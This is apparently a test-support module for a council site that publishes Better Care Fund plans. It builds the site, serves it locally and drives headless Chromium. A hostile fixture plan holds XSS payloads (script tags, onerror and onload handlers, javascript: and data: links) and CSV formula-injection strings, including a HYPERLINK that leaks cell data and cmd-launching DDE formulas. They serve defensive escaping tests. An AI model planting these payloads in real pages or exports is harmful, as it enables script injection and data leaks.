"""The built site, a local web server for it, and a headless Chromium driven by Selenium.

The site is built once per test session (`built_site()` is cached), from a copy of the example
plans plus two fixture plans: one with every kind of figure (schemes, metric goals, population,
spend by category) and one whose text tries to run script in the reader's browser.
"""
from __future__ import annotations

import atexit
import copy
import functools
import http.server
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from dataclasses import dataclass
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[2]
AXE_JS = Path(__file__).parent / "node_modules" / "axe-core" / "axe.min.js"
CHROMIUM = [Path("/usr/bin/chromium"), Path("/usr/bin/chromium-browser"), Path("/usr/bin/google-chrome")]
CHROMEDRIVER = [Path("/usr/bin/chromedriver")]

# What the hostile plan's script would do if it ever ran.
PWNED_FLAG = "__bcfcPwned"
HOSTILE_TEXT = f"""Opening paragraph of the hostile plan.

<script>window.{PWNED_FLAG} = "script"; alert("script")</script>

<img src=x onerror="window.{PWNED_FLAG} = 'img'; alert('img')">

[a javascript link](javascript:window.{PWNED_FLAG}='link';alert('link'))
[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<a href="javascript:alert(1)">raw anchor</a>

<iframe src="javascript:alert('frame')"></iframe>
<svg onload="window.{PWNED_FLAG}='svg'"></svg>
"""
HOSTILE_TITLE = f"<script>window.{PWNED_FLAG}='title'</script> Local heading {{: onclick=\"window.{PWNED_FLAG}='attr'\" }}"
SEARCHABLE_SCHEME = "Zebrafinch Community Reablement"
REVIEW = {"reviewer": {"role": "NHS England regional BCF manager", "date": "2023-08-14"},
          "recommendation": "approve", "summary": "A clear plan.",
          "entries": {"nc1.pr1.organisations": {"assessment": "met", "comment": "Every partner is named."},
                      "nc2.pr4.carers": {"assessment": "partly_met", "comment": "The carers offer needs figures."}}}
CSV_FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
                "+1+cmd|' /C notepad'!A0", "-2+3"]


@dataclass(frozen=True)
class BuiltSite:
    work: Path  # the folder with mkdocs.yml, docs/, plans/
    site: Path
    plans: list[Path]  # every plan published
    rich_plan: Path
    hostile_plan: Path
    build_output: str  # what `bcfc build` printed (stdout and stderr)


def _rich_plan(fw_period: str = "2023-25") -> dict:
    """A valid plan with every figure the site draws: income, schemes, metric goals, population."""
    sys.path.insert(0, str(ROOT / "tests"))
    from planbuilder import complete_plan

    from bcf_schema import load_framework

    fw = load_framework(fw_period)
    plan = complete_plan(fw, "E06000017")  # Rutland
    years = fw.financial_years
    streams = fw.ids("funding_streams")
    plan["version"] = "2.1"
    plan["status"] = "approved"
    plan["date"] = "2023-06-28"
    plan["population"] = {"count": 41049, "year": 2021, "source": "ONS census 2021"}
    plan["history"] = [{"version": "2.0", "date": "2023-06-01", "change": "Draft for the board"},
                       {"version": "2.1", "date": "2023-06-28", "change": "Approved by the board"}]
    plan["priorities"] = ["Home first", "Carers"]
    plan["funding"] = {"streams": {streams[0]: {years[0]: 3_000_000, years[1]: 3_150_000},
                                   streams[1]: {years[0]: 1_200_000, years[1]: 1_200_000}}}
    types, areas = fw.ids("scheme_types"), fw.ids("areas_of_spend")
    plan["schemes"] = [
        {"id": "R1", "name": SEARCHABLE_SCHEME, "type": types[0], "area_of_spend": areas[0], "funding_source": streams[0],
         "description": "Reablement at home after a hospital stay.",
         "expenditure": {years[0]: 2_000_000, years[1]: 2_100_000}},
        {"id": "R2", "name": "Carers' breaks", "type": types[1], "funding_source": streams[0],
         "expenditure": {years[0]: 1_000_000, years[1]: 1_050_000}},
        {"id": "R3", "name": "Adaptations advice", "type": types[0], "area_of_spend": areas[1], "funding_source": streams[1],
         "expenditure": {years[0]: 1_200_000, years[1]: 1_200_000}},
    ]
    for rule in fw.items("ring_fenced"):  # a ring-fenced stream may only fund its own scheme types
        for scheme in plan["schemes"]:
            if scheme["funding_source"] == rule["funding_stream"]:
                scheme["type"] = rule["scheme_types"][0]
    metric = fw.items("metrics")[0]
    # An approved plan gives a goal for every period the framework declares (BCF216).
    goals = {period: 200.0 - 9.5 * index for index, period in enumerate(fw.goal_periods(metric))}
    plan["metrics"][metric["id"]] = {"baseline": {"2022-23": 812.5}, "goals": goals}
    plan["spend_by_category"] = [{"category": "Community", "amounts": {years[0]: 2_000_000}},
                                 {"category": "Acute", "amounts": {years[0]: 2_200_000}}]
    # what a published document says beyond the template (issue 18): figures, milestones, a lost chart
    section = fw.outline[0].id
    plan["statistics"] = [{"label": "People achieving their outcomes", "value": 80.2, "unit": "%", "qualifier": "over",
                           "period": {"financial_year": years[0]}, "source": "Service data", "section": section}]
    plan["milestones"] = [{"when": {"as_stated": "6 months from April"}, "what": "The pilot is reviewed",
                           "section": section}]
    plan["lost_figures"] = [{"caption": "Figure 1: discharges by pathway", "note": "a chart", "section": section}]
    if fw.change_model:
        model = fw.change_model
        plan["change_model"] = [{"change": model["changes"][0]["id"], "current": model["levels"][1]["id"],
                                 "planned": model["levels"][2]["id"], "planned_by": "2024-03",
                                 "narrative": "Discharge planning starts on admission."}]
    return plan


def _hostile_plan(rich: dict) -> dict:
    plan = copy.deepcopy(rich)
    plan["hwbs"] = [{"name": "Bracknell Forest", "code": "E06000036"}]
    from bcf_schema import hwbs
    plan["icbs"] = list(hwbs.by_code()["E06000036"].icbs)
    plan["population"] = {"count": 124_600}
    first = next(iter(plan["narrative"]))
    plan["narrative"][first] = {"text": HOSTILE_TEXT, "subsections": [{"title": HOSTILE_TITLE, "text": HOSTILE_TEXT}]}
    plan["priorities"] = [f"<img src=x onerror=\"window.{PWNED_FLAG}='priority'\">"]
    plan["schemes"][1]["name"] = f"<script>window.{PWNED_FLAG}='scheme'</script>"
    plan["risks"] = [{"risk": "<b onmouseover=alert(1)>hover</b>", "mitigation": HOSTILE_TEXT}]
    plan["related_documents"] = [{"title": "A javascript link", "link": "javascript:alert('related')"}]
    # Text a spreadsheet would run as a formula if the open data wrote it as it is (OWASP CSV injection).
    plan["schemes"][2]["provider"] = CSV_FORMULAS[0]
    plan["schemes"][0]["provider"] = CSV_FORMULAS[1]
    plan["capacity_demand"] = [{"service": CSV_FORMULAS[2], "kind": "demand", "source": CSV_FORMULAS[3],
                                "months": {"2023-04": 12, "2023-05": 14.5}}]
    return plan


def write_fixture_plans(plans_dir: Path) -> tuple[Path, Path]:
    rich = _rich_plan()
    rich_path = plans_dir / "rutland" / "2023-25.yaml"
    hostile_path = plans_dir / "bracknell-forest" / "2023-25.yaml"
    for path, plan in ((rich_path, rich), (hostile_path, _hostile_plan(rich))):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(yaml.safe_dump(plan, sort_keys=False, allow_unicode=True, width=1000), encoding="utf-8")
    return rich_path, hostile_path


SITE_URL = "https://plans.example.gov.uk/"
SITE_CONFIG = f"""site:
  name: Better Care Fund plans
  publisher: Example County Council
  contact: bcf@example.gov.uk
  url: {SITE_URL}
"""


def make_workspace(work: Path) -> tuple[Path, Path]:
    """A copy of the project's site inputs (mkdocs.yml, docs/, plans/) with the fixture plans added, and
    the bcfc.yaml a council's repository has (its address gives the site a sitemap)."""
    shutil.copy(ROOT / "mkdocs.yml", work / "mkdocs.yml")
    (work / "bcfc.yaml").write_text(SITE_CONFIG, encoding="utf-8")
    shutil.copytree(ROOT / "docs", work / "docs")
    shutil.copytree(ROOT / "plans", work / "plans")
    plans = write_fixture_plans(work / "plans")
    # The fixture plan's regional assurance, so every page type with a review is built and checked.
    review = work / "reviews" / "rutland" / "2023-25.yaml"
    review.parent.mkdir(parents=True)
    review.write_text(yaml.safe_dump(REVIEW, sort_keys=False, width=1000), encoding="utf-8")
    return plans


def bcfc_exe() -> str:
    found = shutil.which("bcfc")
    return found or str(Path(sys.executable).with_name("bcfc"))


@functools.cache
def built_site() -> BuiltSite:
    """`bcfc build` once per test session, in a scratch copy of the project's site inputs."""
    work = Path(tempfile.mkdtemp(prefix="bcfc-site-test-"))
    atexit.register(shutil.rmtree, work, True)
    rich, hostile = make_workspace(work)
    result = subprocess.run([bcfc_exe(), "build"], cwd=work, capture_output=True, text=True, timeout=300)
    if result.returncode != 0:
        raise RuntimeError(f"bcfc build failed ({result.returncode}):\n{result.stdout}\n{result.stderr}")
    plans = sorted(p for p in (work / "plans").rglob("*.yaml") if p.parent.name != "returns")
    return BuiltSite(work, work / "site", plans, rich, hostile, result.stdout + result.stderr)


class _QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


class SiteServer:
    """The built site over HTTP on a free local port, as a reader's browser gets it."""

    def __init__(self, root: Path):
        handler = functools.partial(_QuietHandler, directory=str(root))
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def find(paths: list[Path]) -> Path | None:
    return next((p for p in paths if p.exists()), None)


def chrome(user_data_dir: Path):
    """Headless Chromium, no sandbox or GPU, no background network, console logs kept."""
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = str(find(CHROMIUM))
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-dev-shm-usage", "--window-size=1280,1000", f"--user-data-dir={user_data_dir}",
                "--lang=en-GB"):
        options.add_argument(arg)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    return webdriver.Chrome(service=Service(str(find(CHROMEDRIVER))), options=options)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]
